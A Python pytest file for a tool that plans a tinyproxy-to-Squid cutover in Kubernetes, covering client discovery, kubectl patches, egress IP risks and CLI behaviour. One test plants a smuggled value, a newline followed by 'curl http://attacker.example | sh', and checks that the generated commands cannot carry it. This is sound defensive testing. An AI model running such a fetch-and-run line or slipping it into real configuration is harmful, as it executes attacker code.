"""Client discovery from --cluster-dump, the egress section, and the plan-cutover CLI seam."""

from __future__ import annotations

import json

from _planfix import CASES, HEALTHY, INVENTORY, VALUES, VERIFY_CLEAN, VERIFY_WIDENED
from typer.testing import CliRunner

from tinysquid.cli import app
from tinysquid.plan.build import PlanOptions, build_plan
from tinysquid.plan.clients import OldProxy, rewrite
from tinysquid.plan.proxyconf import domain_of_pattern

SQUID = "http://squid.squid.svc.cluster.local:8888"
runner = CliRunner()


def _plan(**kw):
    return build_plan(PlanOptions(inventory=INVENTORY, verify_report=VERIFY_CLEAN, values=VALUES,
                                  cluster_dump=HEALTHY, **kw))


def _client(plan, kind, ns, name):
    return next(c for c in plan.clients if (c.kind, c.namespace, c.name) == (kind, ns, name))


def test_clients_found_in_deployment_cronjob_and_configmap_and_nothing_else():
    plan = _plan()
    found = {(c.kind, c.namespace, c.name, c.container) for c in plan.clients}
    assert found == {
        ("Deployment", "billing", "api", "api"),
        ("CronJob", "reports", "nightly-export", "export"),
        ("Job", "reports", "nightly-export-29398335", "export"),
        ("ConfigMap", "payments", "proxy-env", None),
        ("StatefulSet", "data", "kafka-connect", "fetch-plugins"),
    }  # web/frontend's near misses (10.0.1.100, …evil.example, 10.0.1.10.nip.io) are not clients


def test_deployment_patch_switches_both_proxy_vars_and_keeps_no_proxy():
    c = _client(_plan(), "Deployment", "billing", "api")
    assert c.commands[0] == (f"kubectl set env deployment/api -n billing -c api HTTPS_PROXY={SQUID} "
                             f"HTTP_PROXY={SQUID}")
    assert "NO_PROXY" not in " ".join(c.commands + c.rollback)
    assert c.rollback[0].endswith("HTTPS_PROXY=http://proxy.internal.example.com:8888 "
                                  "HTTP_PROXY=http://proxy.internal.example.com:8888")
    assert c.findings[0].code == "TS730" and "Route 53" in c.findings[0].message


def test_cronjob_lowercase_var_pointing_at_an_instance_ip():
    c = _client(_plan(), "CronJob", "reports", "nightly-export")
    assert c.commands == [f"kubectl set env cronjob/nightly-export -n reports -c export https_proxy={SQUID}"]
    assert c.changes[0].matched == "10.0.1.10"
    assert ".spec.jobTemplate.spec.template.spec.containers" in c.check
    job = _client(_plan(), "Job", "reports", "nightly-export-29398335")
    assert job.commands == [] and job.findings[-1].code == "TS732"


def test_configmap_patch_and_restart_of_its_consumer():
    c = _client(_plan(), "ConfigMap", "payments", "proxy-env")
    assert c.commands == [
        "kubectl patch configmap proxy-env -n payments --type merge -p "
        f"'{{\"data\":{{\"HTTPS_PROXY\":\"{SQUID}\"}}}}'",
        "kubectl rollout restart deployment/worker -n payments"]
    assert [ch.name for ch in c.changes] == ["HTTPS_PROXY"]  # NO_PROXY untouched


def test_init_container_credentials_are_never_printed():
    plan = _plan()
    c = _client(plan, "StatefulSet", "data", "kafka-connect")
    assert c.init_container and "/spec/template/spec/initContainers/0/env/0/value" in c.commands[0]
    assert "fetch:***@squid.squid.svc.cluster.local:8888" in c.commands[0]
    assert any(f.code == "TS731" for f in c.findings)
    from tinysquid import __version__
    from tinysquid.plan import render

    for text in (render.to_markdown(plan, version=__version__), render.to_json(plan, version=__version__)):
        assert "s3cr3t" not in text


def test_rewrite_keeps_paths_and_respects_token_boundaries():
    pattern = OldProxy({"10.0.1.10": "x", "proxy.example.com": "y"}).matcher()
    assert rewrite("http://10.0.1.10:8888/", pattern, "egress", 3128)[0] == \
        "http://squid.egress.svc.cluster.local:3128/"
    assert rewrite("10.0.1.100:8888", pattern, "egress", 3128)[1] is None
    assert rewrite("proxy.example.com.evil:80", pattern, "egress", 3128)[1] is None
    assert rewrite("proxy=PROXY.example.com:8888", pattern, "egress", 3128)[0] == \
        "proxy=squid.egress.svc.cluster.local:3128"


def test_egress_lists_exactly_the_inventory_egress_ips_and_unknown_cluster_egress():
    plan = _plan()
    inv = json.loads(INVENTORY.read_text())
    assert [r["public_ip"] for r in plan.egress.legacy_ips] == [e["public_ip"] for e in inv["egress_ips"]]
    assert plan.egress.status == "unknown"
    assert "aws ec2 describe-nat-gateways --region eu-west-1 --filter Name=vpc-id,Values=vpc-0f00000000000aaaa" \
        in plan.egress.cluster_ips_command
    assert {r.id for r in plan.risks} >= {"egress-ip-unknown", "nat-port-exhaustion", "nat-idle-timeout"}


def test_nat_gateway_ips_in_the_inventory_make_the_change_a_risk(tmp_path):
    inv = json.loads(INVENTORY.read_text())
    inv["nat_gateways"] = [
        {"id": "nat-0aaa", "region": "eu-west-1", "vpc_id": "vpc-0f00000000000aaaa", "state": "available",
         "connectivity": "public", "public_ips": ["63.33.1.1"]},
        {"id": "nat-0other", "region": "eu-west-1", "vpc_id": "vpc-0other", "state": "available",
         "connectivity": "public", "public_ips": ["63.33.9.9"]}]
    path = tmp_path / "inventory.json"
    path.write_text(json.dumps(inv))
    plan = build_plan(PlanOptions(inventory=path))
    assert [r["public_ip"] for r in plan.egress.cluster_ips] == ["63.33.1.1"]
    assert plan.egress.status == "changed"
    risk = next(r for r in plan.risks if r.id == "egress-ip-change")
    assert risk.finding.code == "TS720"
    assert risk.finding.data["old"] == ["54.216.10.11", "54.216.20.22", "54.216.30.33"]


def test_third_party_checklist_and_idle_timeout_from_a_policy():
    from tinysquid.diagnostics import Span
    from tinysquid.plan.egress import analyse
    from tinysquid.plan.inputs import Inputs
    from tinysquid.plan.proxyconf import facts_from_policy
    from tinysquid.policy import ir

    pats = tuple(ir.DestPattern(regex=r, case_sensitive=False, syntax=ir.PatternSyntax.BRE, source_text=r,
                                origin=Span("filter", n))
                 for n, r in enumerate([r"^api\.stripe\.com$", r"\.slack\.com$", r"git.corp.internal",
                                        r"^(foo|bar)\.example\.org$"], 1))
    policy = ir.Policy(listener=ir.Listener(8888),
                       destinations=ir.DestPolicy(ir.MatchSubject.HOST, ir.Action.DENY, pats),
                       limits=ir.Limits(idle_timeout=900, timeout_origin=Span("tinyproxy.conf", 12)))
    inputs = Inputs(proxy=facts_from_policy(policy))
    eg = analyse(inputs)
    assert [t["domain"] for t in eg.third_party] == ["api.stripe.com", "slack.com", "foo.example.org",
                                                     "bar.example.org"]
    assert eg.third_party[0]["source"] == "filter:1"
    idle = next(r for r in eg.risks if r.id == "nat-idle-timeout")
    assert "Timeout 900s (tinyproxy.conf:12)" in idle.finding.message


def test_domain_of_pattern():
    assert domain_of_pattern(r"^api\.stripe\.com$") == "api.stripe.com"
    assert domain_of_pattern(r"(.*\.)?github\.com$") == "github.com"
    assert domain_of_pattern(".example.org") == "example.org"
    assert domain_of_pattern(r"^ads[0-9]+\.") is None


def test_cli_healthy_exit_0_and_json_document(tmp_path):
    out = tmp_path / "plan.json"
    result = runner.invoke(app, ["plan-cutover", "--inventory", str(INVENTORY), "--verify-report",
                                 str(VERIFY_CLEAN), "--values", str(VALUES), "--cluster-dump", str(HEALTHY),
                                 "-o", "json", "--out", str(out)])
    assert result.exit_code == 0, result.output
    doc = json.loads(out.read_text())
    assert {"schema_version", "generated_by", "inputs", "checks", "risks", "clients", "phases"} <= doc.keys()
    assert [p["number"] for p in doc["phases"]] == [0, 1, 2, 3, 4, 5]
    assert all(len(i["sha256"]) == 64 for i in doc["inputs"])
    assert all(s["check"] and s["rollback"] for p in doc["phases"] for s in p["steps"])


def test_cli_blocking_exit_1_and_bad_input_exit_2(tmp_path):
    result = runner.invoke(app, ["plan-cutover", "--verify-report", str(VERIFY_WIDENED)])
    assert result.exit_code == 1
    assert "# Cutover runbook" in result.stdout
    bad = tmp_path / "inv.json"
    bad.write_text('{"instances": [}\n')
    result = runner.invoke(app, ["plan-cutover", "--inventory", str(bad)])
    assert result.exit_code == 2
    assert f"{bad}:1:" in result.output and "Traceback" not in result.output


def test_strategies_render_their_phase_three():
    nlb = _plan(strategy=__import__("tinysquid.plan.phases", fromlist=["Strategy"]).Strategy.NLB_WEIGHTED)
    shift = next(p for p in nlb.phases if p.number == 3)
    cmds = " ".join(c for s in shift.steps for c in s.command)
    assert cmds.count("aws elbv2 modify-listener") == 3
    assert '"Weight":90' in cmds and '"Weight":50' in cmds and '"Weight":0,' not in cmds.split("modify")[1]
    weighted = [i for i, s in enumerate(shift.steps) if "modify-listener" in " ".join(s.command)]
    assert [bool(shift.steps[i].gate) for i in weighted] == [True, True, False]
    # A client naming an instance IP bypasses the NLB: switched before any weight moves; one using the
    # Route 53 name follows the weights and is pointed at the Service directly after 100%.
    order = [s.what for s in shift.steps]
    cron = next(i for i, w in enumerate(order) if "CronJob/reports/nightly-export" in w)
    api = next(i for i, w in enumerate(order) if "Deployment/billing/api" in w)
    assert cron < weighted[0] < weighted[-1] < api
    from tinysquid.plan.phases import Strategy

    dns = _plan(strategy=Strategy.DNS_WEIGHTED)
    shift = next(p for p in dns.phases if p.number == 3)
    assert any("TTL warning" in n for s in shift.steps for n in s.notes)
    assert "Z0123456789ABCDEFGHIJ" in " ".join(c for s in shift.steps for c in s.command)


def test_decommission_releases_eips_last_with_the_saving():
    last = _plan().phases[-1]
    assert "Release the Elastic IPs" in last.steps[-1].what
    assert sum("release-address" in c for c in last.steps[-1].command) == 3
    assert any("64.02 USD" in n for n in last.steps[-1].notes)
    assert all("release-address" not in c for s in last.steps[:-1] for c in s.command)


def test_fixture_inputs_exist():
    assert (CASES / "api" / "deployments.json").is_file()


def test_config_through_the_real_front_end_gives_checklist_timeout_and_findings():
    from pathlib import Path

    conf = Path(__file__).resolve().parents[3] / "examples" / "egress-allowlist" / "tinyproxy.conf"
    plan = build_plan(PlanOptions(config=conf, inventory=INVENTORY))
    domains = [t["domain"] for t in plan.egress.third_party]
    assert {"api.stripe.com", "hooks.slack.com", "api.github.com", "uploads.github.com"} <= set(domains)
    assert not any(d.endswith(".internal.example") for d in domains)
    idle = next(r for r in plan.risks if r.id == "nat-idle-timeout")
    assert idle.finding.data["tinyproxy_timeout"] == 600
    convert = next(c for c in plan.checks if c.id == "convert")
    assert str(convert.status) == "fail" and not convert.blocking
    assert any("legacy-hole" in e for e in convert.evidence)
    assert plan.inputs.files[-1].role == "tinyproxy-config"


def test_domains_of_pattern_expands_one_alternation():
    from tinysquid.plan.proxyconf import domains_of_pattern

    assert domains_of_pattern(r"^(api|uploads)\.github\.com$") == ["api.github.com", "uploads.github.com"]
    assert domains_of_pattern(r"(a|b)") == []


def test_values_from_the_cluster_cannot_inject_shell_lines(tmp_path):
    from _planfix import find, mutated_dump

    evil = "http://proxy.internal.example.com:8888\ncurl http://attacker.example | sh"

    def inject(items):
        env = find(items, "Deployment", "api", "billing")["spec"]["template"]["spec"]["containers"][0]["env"]
        env[0]["value"] = evil
    plan = build_plan(PlanOptions(inventory=INVENTORY, cluster_dump=mutated_dump(tmp_path, inject)))
    c = _client(plan, "Deployment", "billing", "api")
    import shlex

    for line in [*c.commands, *c.rollback, c.check]:
        # One shell command per line: no newline, pipe or separator outside quotes or the comment.
        lex = shlex.shlex(line, posix=True, punctuation_chars=True)
        lex.whitespace = " \t"
        tokens = list(lex)
        assert not {"\n", "|", ";", "&&", "&"} & set(tokens), (line, tokens)
        assert tokens[0] == "kubectl"


def test_verify_and_straggler_steps_use_the_instances_port_not_the_listeners(tmp_path):
    inv = json.loads(INVENTORY.read_text())
    inv["listeners"][0]["port"] = 3128  # the NLB listens on 3128, tinyproxy on 8888 behind it
    path = tmp_path / "inventory.json"
    path.write_text(json.dumps(inv))
    plan = build_plan(PlanOptions(inventory=path))
    verify = " ".join(plan.phases[2].steps[0].command)
    assert "--old http://10.0.1.10:8888 --old http://10.0.2.10:8888" in verify
    stragglers = " ".join(plan.phases[4].steps[1].command)
    assert "sport = :8888" in stragglers


def test_context_and_cluster_dump_together_are_bad_input():
    result = runner.invoke(app, ["plan-cutover", "--context", "x", "--cluster-dump", str(HEALTHY)])
    assert result.exit_code == 2 and "not both" in result.output


def test_proxy_variables_from_secrets_are_listed_as_unverified():
    plan = _plan()
    assert [r.record() for r in plan.secret_refs] == [{
        "kind": "Deployment", "namespace": "payments", "name": "worker", "container": "worker",
        "variable": "ALL_PROXY", "source": "secret/egress-proxy key url"}]
    from tinysquid import __version__
    from tinysquid.plan import render

    assert "`ALL_PROXY` from secret/egress-proxy key url" in render.to_markdown(plan, version=__version__)


def test_ip_target_group_uses_squids_container_port(tmp_path):
    import yaml

    from tinysquid.plan.phases import Strategy

    values = yaml.safe_load(VALUES.read_text())
    values["service"].update(port=80, targetPort=3128)  # tinyproxy Port 80: squid cannot bind it
    path = tmp_path / "values.yaml"
    path.write_text(yaml.safe_dump(values))
    plan = build_plan(PlanOptions(inventory=INVENTORY, values=path, strategy=Strategy.NLB_WEIGHTED))
    create = next(c for s in plan.phases[3].steps for c in s.command if "create-target-group" in c)
    assert "--port 3128" in create
    assert plan.port == 80 and "port: 80" in " ".join(s.command[1] for s in plan.phases[3].steps
                                                      if len(s.command) > 1 and "TargetGroupBinding" in s.command[1])


def test_eips_moved_to_the_nat_gateway_mean_no_egress_change(tmp_path):
    inv = json.loads(INVENTORY.read_text())
    inv["nat_gateways"] = [{"id": "nat-0aaa", "region": "eu-west-1", "vpc_id": "vpc-0f00000000000aaaa",
                            "state": "available", "connectivity": "public",
                            "public_ips": ["54.216.10.11", "54.216.20.22"]}]
    path = tmp_path / "inventory.json"
    path.write_text(json.dumps(inv))
    plan = build_plan(PlanOptions(inventory=path))
    assert plan.egress.status == "same"
    assert not {"egress-ip-change", "egress-ip-unknown"} & {r.id for r in plan.risks}
    release = plan.phases[5].steps[-1]
    released = " ".join(release.command)
    assert "eipalloc-0000000000000c003" in released  # the idle one still goes
    assert "eipalloc-0000000000000a001" not in released and "eipalloc-0000000000000b002" not in released
    assert any("keep 54.216.10.11" in n for n in release.notes)


def test_config_through_the_front_end_honours_the_project_configs_reviewed_findings(tmp_path, monkeypatch):
    """plan-cutover --config marks what tinysquid.toml accepts, as convert's report.json does."""
    (tmp_path / "tinyproxy.conf").write_text('Port 8888\nListen 127.0.0.1\nFilter "allow.list"\n'
                                             "FilterDefaultDeny Yes\nFilterExtended On\n")
    (tmp_path / "allow.list").write_text("^api\\.example\\.org$\n")
    monkeypatch.chdir(tmp_path)

    def convert_check():
        plan = build_plan(PlanOptions(config=tmp_path / "tinyproxy.conf", inventory=INVENTORY))
        return next(c for c in plan.checks if c.id == "convert")

    assert str(convert_check().status) == "fail"
    (tmp_path / "tinysquid.toml").write_text('ignore = ["TS274:tinyproxy.conf:2", "TS293:allow.list"]\n')
    check = convert_check()
    assert str(check.status) == "pass", check.evidence
    assert any("(ignored: reviewed) TS274" in e for e in check.evidence)
